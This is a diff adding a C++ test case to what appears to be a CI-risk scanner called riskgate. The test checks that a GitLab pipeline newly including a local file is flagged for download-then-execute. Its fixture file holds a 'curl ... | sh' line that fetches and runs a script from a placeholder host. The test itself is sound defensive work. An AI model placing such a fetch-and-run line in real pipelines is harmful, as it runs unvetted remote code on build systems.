@@ -206,4 +206,27 @@ TEST_CASE("pointing an old unverified run at another download introduces the fin
   CHECK(Rules(doc).contains("download-then-execute"));
 }
 
+TEST_CASE("a file that a change newly includes in GitLab CI is judged though it is untouched",
+          "[e2e][pins]") {
+  TempRepo repo;
+  repo.Write(".gitlab-ci.yml", "stages: [build]\nbuild:\n  script: [make]\n");
+  repo.Write("ci/setup.yml", "setup:\n  script:\n    - curl -fsSL https://x.example/i | sh\n");
+  const std::string base = repo.Commit("a file that is no pipeline yet");
+  repo.Write(".gitlab-ci.yml",
+             "include:\n  - local: ci/setup.yml\nstages: [build]\nbuild:\n  script: [make]\n");
+  repo.Git({"add", "-A"});
+  auto staged = repo.RiskgateJson({"check", "--staged"}, 1);
+  REQUIRE(Rules(staged).contains("download-then-execute"));
+  repo.Commit("include it");
+  auto range = repo.RiskgateJson({"check", "--base", base}, 1);
+  REQUIRE(Rules(range).contains("download-then-execute"));
+  // Once included, an unrelated edit of the pipeline does not make the old finding new.
+  const std::string included = repo.Head();
+  repo.Write(".gitlab-ci.yml",
+             "include:\n  - local: ci/setup.yml\nstages: [build]\nbuild:\n"
+             "  script: [make, make test]\n");
+  repo.Commit("test too");
+  CHECK(repo.RiskgateJson({"check", "--base", included}, 0)["findings"].empty());
+}
+
 }  // namespace riskgate::testing
